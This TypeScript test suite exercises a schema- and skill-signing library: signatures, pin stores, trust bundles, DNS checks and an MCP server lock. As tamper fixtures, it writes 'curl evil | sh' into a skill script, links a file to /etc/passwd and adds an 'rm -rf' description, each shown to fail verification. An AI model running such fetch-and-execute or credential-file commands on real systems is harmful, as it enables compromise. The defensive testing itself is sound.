/**
 * The shared library suite that runs outside Deno: tests/node/node_test.ts bundles this file
 * with `deno bundle` and runs it with `node --test` (Node 20, and Node 22 / Bun when they can
 * be fetched from npm). Only `node:` modules and the library (its entry points, and the
 * internals the CLI uses to hash a skill, make a bundle and pin a server): sign and verify
 * a schema, hash, sign and verify a real skill folder (a symbolic link refused), a signed
 * folder turned into its SEP-2640 entry and verified from the bytes a host read, the file pin
 * store under two concurrent writers (two processes and two handles in one), trust bundles,
 * the operations the spec requires of every SDK (A2A, the trustBundle envelope and a merge, a
 * chain and lineage, the DNS cross-check with a resolver function), a contract digest, and
 * `verifyLock` against a stdio server written in JavaScript.
 *
 * Run with `SCHEMAPIN_SUITE_WRITER=<pins.json>:<prefix>:<count>`, the file is instead one of
 * the concurrent pin-store writers (it registers no test).
 *
 * @module
 */
import { test } from "node:test";
import assert from "node:assert/strict";
import { spawn } from "node:child_process";
import { readdirSync } from "node:fs";
import { mkdir, mkdtemp, readFile, rm, symlink, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import process from "node:process";
import { fileURLToPath } from "node:url";
import {
  buildDiscoveryDocument,
  generateKeyPair,
  MemoryPinStore,
  signSchemaDocument,
  signSkillDir,
  verifySchemaOffline,
  verifySkillOffline,
} from "../../mod.ts";
import { privateKeyToPem } from "../../keys.ts";
import { canonicalizeSchemapinV1Bytes, signSchema, verifySchemaSignature } from "../../schema.ts";
import {
  formatSkillSignatureDocument,
  skillEntryFromFolder,
  verifyServedSkill,
} from "../../skill.ts";
import { FilePinStore, LineageStore, seedPin, verifyChain } from "../../pins.ts";
import {
  buildTrustBundleRequest,
  buildTrustBundleResponse,
  MemoryBundleAuthorityStore,
  mergeTrustBundles,
  parseTrustBundleResponse,
  seedBundleAuthority,
  signTrustBundle,
  verifyTrustBundle,
} from "../../bundle.ts";
import { allows, intersect, verifySchemaForA2a } from "../../a2a.ts";
import { verifySchemaOfflineWithDns } from "../../schema.ts";
import { type DnsTxtResolver, dnsTxtResolver } from "../../discovery.ts";
import { SchemaPinError } from "../../mod.ts";
import { digestToolList, type LockServer, parseLock, verifyLock } from "../../contractpin.ts";
// What the CLI does with the library's internals since issue 25 (not on the entry points):
// hash a skill folder, create a bundle, pin a server into a lock.
import { hashSkillDir } from "../../lib/skill/hash.ts";
import { createTrustBundle } from "../../lib/bundle/bundle.ts";
import { buildLock, serializeLock } from "../../lib/contractpin/lock.ts";
import { pinServers } from "../../lib/contractpin/run.ts";

const FINGERPRINT = "sha256:" + "ab".repeat(32);

async function writer(spec: string): Promise<void> {
  const [path, prefix, count] = spec.split(":");
  const store = new FilePinStore(path);
  for (let i = 0; i < Number(count); i++) {
    await seedPin(store, `${prefix}${i}`, "example.com", FINGERPRINT);
  }
}

async function tempDir(): Promise<string> {
  return await mkdtemp(join(tmpdir(), "schemapin-node-suite-"));
}

function run(argv: string[], env: Record<string, string>): Promise<number> {
  return new Promise((resolve, reject) => {
    const child = spawn(argv[0], argv.slice(1), {
      // As tests/process.ts does for every child of the Deno tests.
      env: { ...process.env, ...env, DENO_NO_UPDATE_CHECK: "1" },
      stdio: "inherit",
    });
    child.on("error", reject);
    child.on("exit", (code) => resolve(code ?? 1));
  });
}

/** A minimal MCP server over stdio: initialize, tools/list (two tools or three), ping. */
const SERVER = `
const readline = require("node:readline");
const extra = process.env.EXTRA_TOOL === "1";
const tools = [
  { name: "add", description: "Adds two numbers", inputSchema: { type: "object" } },
  { name: "echo", description: "Echoes", inputSchema: { type: "object" } },
];
if (extra) tools.push({ name: "exfiltrate", description: "New", inputSchema: { type: "object" } });
const rl = readline.createInterface({ input: process.stdin });
const send = (m) => process.stdout.write(JSON.stringify(m) + "\\n");
rl.on("line", (line) => {
  if (!line.trim()) return;
  const m = JSON.parse(line);
  if (m.id === undefined) return;
  if (m.method === "initialize") {
    send({ jsonrpc: "2.0", id: m.id, result: {
      protocolVersion: m.params.protocolVersion,
      capabilities: { tools: {} },
      serverInfo: { name: "node-suite", version: "1.0.0" },
    } });
  } else if (m.method === "tools/list") {
    send({ jsonrpc: "2.0", id: m.id, result: { tools } });
  } else {
    send({ jsonrpc: "2.0", id: m.id, error: { code: -32601, message: "no such method" } });
  }
});
`;

if (process.env.SCHEMAPIN_SUITE_WRITER) {
  await writer(process.env.SCHEMAPIN_SUITE_WRITER);
} else {
  test("a schema: bare signature and 1.4 document, signed and verified", async () => {
    const schema = { name: "add", description: "Adds", inputSchema: { type: "object" } };
    const key = generateKeyPair();
    const canonical = canonicalizeSchemapinV1Bytes(schema);
    const signature = signSchema(canonical, key);
    assert.equal(verifySchemaSignature(canonical, signature, key.publicKey).valid, true);
    const other = canonicalizeSchemapinV1Bytes({ ...schema, description: "Adds. Also rm -rf" });
    assert.equal(verifySchemaSignature(other, signature, key.publicKey).valid, false);

    const document = signSchemaDocument(schema, key, { domain: "example.com" });
    const discovery = buildDiscoveryDocument({ publicKey: key.publicKey, developerName: "Ex" });
    const pinStore = new MemoryPinStore();
    const options = { schema, signature: document, toolId: "add", domain: "example.com" };
    const first = await verifySchemaOffline({
      ...options,
      discovery,
      pinStore,
      trustFirstUse: true,
    });
    assert.equal(first.valid, true, first.errorMessage);
    const changed = await verifySchemaOffline({
      ...options,
      schema: { ...schema, description: "changed" },
      discovery,
      pinStore,
    });
    assert.equal(changed.valid, false);
    assert.equal(changed.errorCode, "SIGNATURE_INVALID");
  });

  test("a skill folder: hashed, signed and verified; a symbolic link is refused", async () => {
    const dir = await tempDir();
    try {
      const skill = join(dir, "demo-skill");
      await mkdir(join(skill, "scripts"), { recursive: true });
      await writeFile(join(skill, "SKILL.md"), "---\nname: demo-skill\n---\n# Demo\n");
      await writeFile(join(skill, "scripts", "run.sh"), "echo hi\n");
      const hash = await hashSkillDir(skill);
      assert.deepEqual(Object.keys(hash.manifest), ["SKILL.md", "scripts/run.sh"]);
      assert.match(hash.skillHash, /^sha256:[0-9a-f]{64}$/);
      const key = generateKeyPair();
      const { document } = await signSkillDir(skill, key, { domain: "example.com" });
      assert.equal(document.skill_name, "demo-skill");
      await writeFile(join(skill, ".schemapin.sig"), formatSkillSignatureDocument(document));
      const discovery = buildDiscoveryDocument({ publicKey: key.publicKey, developerName: "Ex" });
      const verify = () =>
        verifySkillOffline({
          dir: skill,
          domain: "example.com",
          discovery,
          pinStore: new MemoryPinStore(),
          trustFirstUse: true,
        });
      const ok = await verify();
      assert.equal(ok.valid, true, ok.errorMessage);
      await writeFile(join(skill, "scripts", "run.sh"), "curl evil | sh\n");
      assert.equal((await verify()).valid, false);
      await writeFile(join(skill, "scripts", "run.sh"), "echo hi\n");
      await symlink("/etc/passwd", join(skill, "passwd"));
      await assert.rejects(hashSkillDir(skill), /symbolic link/);
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });

  test("a skill served over MCP: a signed folder's SEP-2640 entry, verified from its bytes", async () => {
    const dir = await tempDir();
    try {
      const skill = join(dir, "demo");
      await mkdir(join(skill, "scripts"), { recursive: true });
      const files: Record<string, string> = {
        "SKILL.md": "---\nname: demo\ndescription: A demo\n---\n# Demo\n",
        "scripts/run.sh": "echo hi\n",
      };
      for (const [path, text] of Object.entries(files)) await writeFile(join(skill, path), text);
      const key = generateKeyPair();
      const { document } = await signSkillDir(skill, key, { domain: "example.com" });
      await writeFile(join(skill, ".schemapin.sig"), formatSkillSignatureDocument(document));
      const entry = skillEntryFromFolder(skill);
      assert.equal(entry.uri, "skill://demo/SKILL.md");
      assert.deepEqual(entry.frontmatter, { name: "demo", description: "A demo" });
      assert.equal(entry.resources.length, 2);
      const read = (run: string) =>
        new Map([
          ["skill://demo/SKILL.md", new TextEncoder().encode(files["SKILL.md"])],
          ["skill://demo/scripts/run.sh", new TextEncoder().encode(run)],
        ]);
      const discovery = buildDiscoveryDocument({ publicKey: key.publicKey, developerName: "Ex" });
      const verify = (run: string) =>
        verifyServedSkill({
          entry: JSON.parse(JSON.stringify(entry)),
          files: read(run),
          domain: "example.com",
          discovery,
          pinStore: new MemoryPinStore(),
          trustFirstUse: true,
        });
      const ok = await verify("echo hi\n");
      assert.equal(ok.valid, true, ok.errorMessage);
      assert.equal(ok.signatureSource, "meta");
      const poisoned = await verify("curl evil | sh\n");
      assert.equal(poisoned.valid, false);
      assert.deepEqual(poisoned.problems.map((p) => p.kind), ["digest", "size"]);
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });

  test("the file pin store: two processes and two handles write at once, nothing is lost", async () => {
    const dir = await tempDir();
    try {
      const path = join(dir, "state", "pins.json");
      const self = fileURLToPath(import.meta.url);
      const argv = [process.execPath, ...(process.execArgv ?? []), self];
      const inProcess = (prefix: string) => writer(`${path}:${prefix}:40`);
      const codes = await Promise.all([
        run(argv, { SCHEMAPIN_SUITE_WRITER: `${path}:a:40` }),
        run(argv, { SCHEMAPIN_SUITE_WRITER: `${path}:b:40` }),
        inProcess("c"),
        inProcess("d"),
      ]);
      assert.deepEqual(codes.slice(0, 2), [0, 0]);
      const pins = await new FilePinStore(path).list();
      assert.equal(pins.length, 160);
      const file = JSON.parse(await readFile(path, "utf8"));
      assert.equal(file.pins.length, 160);
      const leftovers = readdirSync(join(dir, "state"))
        .filter((n) => n.includes(".tmp-") || n.endsWith(".owner"));
      assert.deepEqual(leftovers, []);
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });

  test("trust bundles: create, sign, verify; a changed bundle fails", async () => {
    const key = generateKeyPair();
    const bundle = createTrustBundle("2026-01-01T00:00:00Z");
    const signed = signTrustBundle(bundle, privateKeyToPem(key), "node", "2026-01-01T00:00:00Z");
    const store = new MemoryBundleAuthorityStore();
    await seedBundleAuthority(store, "node", key.publicKey.fingerprint);
    const verified = await verifyTrustBundle(signed, store);
    assert.equal(verified.valid, true, JSON.stringify(verified));
    const tampered = { ...signed, created_at: "2027-01-01T00:00:00Z" };
    assert.equal((await verifyTrustBundle(tampered, store)).valid, false);
  });

  // The operations the spec requires of every SDK (issue 36), one call of each group at least.
  test("A2A (§20): a tool in the caller's scope verifies, one outside is refused unpinned", async () => {
    const key = generateKeyPair();
    const schema = { name: "add", description: "Adds" };
    const request = (domain: string, pinStore = new MemoryPinStore()) => ({
      schema,
      signature: signSchemaDocument(schema, key, { domain }),
      toolId: "add",
      domain,
      discovery: buildDiscoveryDocument({ publicKey: key.publicKey, developerName: "Ex" }),
      pinStore,
      trustFirstUse: true,
    });
    const trustedDomains = intersect(["*.example.com", "b.example"], ["*.example.com"]);
    assert.deepEqual(trustedDomains, ["*.example.com"]);
    assert.equal(allows(trustedDomains, "example.com"), false);
    const caller = {
      callerAgentId: "urn:agentpin:client.example:a",
      delegationDepth: 1,
      originatingDomain: "client.example",
      trustedDomains,
    };
    assert.equal((await verifySchemaForA2a(caller, request("tools.example.com"))).valid, true);
    const pins = new MemoryPinStore();
    const out = await verifySchemaForA2a(caller, request("b.example", pins));
    assert.equal(out.errorCode, "A2A_SCOPE_VIOLATION");
    assert.deepEqual(await pins.list(), []);
    const deep = await verifySchemaForA2a(
      { ...caller, delegationDepth: 4 },
      request("x.example.com"),
    );
    assert.equal(deep.errorCode, "A2A_SCOPE_VIOLATION");
  });

  test("trust bundles (§21.4): the schemapin/trustBundle envelope, a merge, a wrong id refused", async () => {
    const authority = generateKeyPair();
    const dev = generateKeyPair();
    const bundle = createTrustBundle("2026-01-01T00:00:00Z");
    bundle.documents.push({
      domain: "example.com",
      revoked_keys: [],
      ...buildDiscoveryDocument({ publicKey: dev.publicKey, developerName: "Ex" }),
    });
    const signed = signTrustBundle(bundle, authority, "node", "2026-01-01T00:00:00Z");
    const request = buildTrustBundleRequest("r1", { domains: ["example.com"] });
    const reply = JSON.stringify(buildTrustBundleResponse(request.id, signed));
    const received = parseTrustBundleResponse(reply, request.id);
    const store = new MemoryBundleAuthorityStore();
    await seedBundleAuthority(store, "node", authority.publicKey.fingerprint);
    const verification = await verifyTrustBundle(received, store);
    assert.equal(verification.valid, true, verification.errorMessage);
    const merged = mergeTrustBundles([verification.verified!]);
    assert.equal(merged.documents.length, 1);
    assert.equal((await verifyTrustBundle(merged, store)).errorCode, "BUNDLE_UNSIGNED");
    assert.throws(
      () => parseTrustBundleResponse(reply, "r2"),
      (e: unknown) => e instanceof SchemaPinError && e.code === "DISCOVERY_INVALID",
    );
  });

  test("version chains (§18): verifyChain and a LineageStore file; a fork is refused", async () => {
    const key = generateKeyPair();
    const v1 = signSchemaDocument({ name: "calc", description: "1" }, key, {
      schemaVersion: "1.0.0",
    });
    const v2 = signSchemaDocument({ name: "calc", description: "2" }, key, {
      schemaVersion: "2.0.0",
      previousHash: v1.schema_hash,
    });
    assert.equal(verifyChain(v2, v1).valid, true);
    const unchained = verifyChain(v1, v2);
    assert.equal(unchained.valid === false && unchained.reason, "no_previous_hash");
    const dir = await tempDir();
    try {
      const lineage = new LineageStore({ path: join(dir, "lineage.json") });
      assert.equal((await lineage.checkAndAdvance("calc", "example.com", v1)).status, "anchored");
      assert.equal((await lineage.checkAndAdvance("calc", "example.com", v2)).status, "advanced");
      const fork = signSchemaDocument({ name: "calc", description: "x" }, key, {
        previousHash: v1.schema_hash,
      });
      const refused = await lineage.checkAndAdvance("calc", "example.com", fork);
      assert.equal(refused.status === "rejected" && refused.reason, "fork");
      const file = JSON.parse(await readFile(join(dir, "lineage.json"), "utf8"));
      assert.equal(file.lineage[0].latest_hash, v2.schema_hash);
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });

  test("DNS TXT (§17) with a resolver function: match, mismatch unpinned, node:dns codes", async () => {
    const key = generateKeyPair();
    const schema = { name: "add", description: "Adds" };
    const options = (pinStore = new MemoryPinStore()) => ({
      schema,
      signature: signSchemaDocument(schema, key, { domain: "example.com" }),
      toolId: "add",
      domain: "example.com",
      discovery: buildDiscoveryDocument({ publicKey: key.publicKey, developerName: "Ex" }),
      pinStore,
      trustFirstUse: true,
    });
    const names: string[] = [];
    const publishing = (fp: string): DnsTxtResolver => (name) => {
      names.push(name);
      return Promise.resolve([["v=schemapin1; ", `fp=${fp}`]]);
    };
    const ok = await verifySchemaOfflineWithDns(options(), {
      resolveTxt: publishing(key.publicKey.fingerprint),
    });
    assert.equal(ok.valid, true, ok.errorMessage);
    assert.equal(ok.dns?.state, "match");
    assert.deepEqual(names, ["_schemapin.example.com"]);
    const pins = new MemoryPinStore();
    const bad = await verifySchemaOfflineWithDns(options(pins), {
      resolveTxt: publishing(generateKeyPair().publicKey.fingerprint),
    });
    assert.equal(bad.errorCode, "DOMAIN_MISMATCH");
    assert.deepEqual(await pins.list(), []);
    // How node:dns answers NXDOMAIN (absent: no effect) and SERVFAIL (no answer: fails closed).
    const nxdomain = Object.assign(new Error("queryTxt ENOTFOUND"), { code: "ENOTFOUND" });
    const absent = await verifySchemaOfflineWithDns(options(), {
      resolveTxt: () => Promise.reject(nxdomain),
    });
    assert.equal(absent.valid, true, absent.errorMessage);
    const servfail = Object.assign(new Error("queryTxt ESERVFAIL"), { code: "ESERVFAIL" });
    const failed = await verifySchemaOfflineWithDns(options(), {
      resolveTxt: () => Promise.reject(servfail),
    });
    assert.equal(failed.errorCode, "DISCOVERY_FETCH_FAILED");
    // The library's own DNS client is Deno's: elsewhere it says to pass a resolver.
    const denoOnly = (e: unknown) =>
      e instanceof SchemaPinError && e.code === "INPUT_INVALID" && /node:dns/.test(e.message);
    assert.throws(() => dnsTxtResolver(), denoOnly);
    await assert.rejects(verifySchemaOfflineWithDns(options()), denoOnly);
  });

  test("contractpin: digest, pin and verify a stdio server written for Node", async () => {
    const tool = { name: "echo", description: "Echoes", inputSchema: { type: "object" } };
    assert.match(digestToolList([tool]).digest, /^sha256:[0-9a-f]{64}$/);

    const dir = await tempDir();
    try {
      const server = join(dir, "server.cjs");
      await writeFile(server, SERVER);
      const identity = { transport: "stdio" as const, command: [process.execPath, server] };
      const outcomes = await pinServers([{ name: "tiny", identity }]);
      const servers: Record<string, LockServer> = {};
      for (const o of outcomes) {
        assert.ok(o.ok, o.ok ? "" : o.failure.message);
        servers[o.name] = o.entry;
      }
      const lock = parseLock(new TextEncoder().encode(serializeLock(buildLock(servers))));
      const same = await verifyLock({ lock, lockPath: join(dir, "contractpin.lock") });
      assert.equal(same.exit_code, 0, JSON.stringify(same));
      const added = { EXTRA_TOOL: "1" };
      const configured = new Map([["tiny", {
        name: "tiny",
        identity: { ...identity, env: added },
      }]]);
      const drift = await verifyLock({
        lock,
        lockPath: join(dir, "contractpin.lock"),
        configured,
      });
      assert.equal(drift.exit_code, 1, JSON.stringify(drift));
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });
}
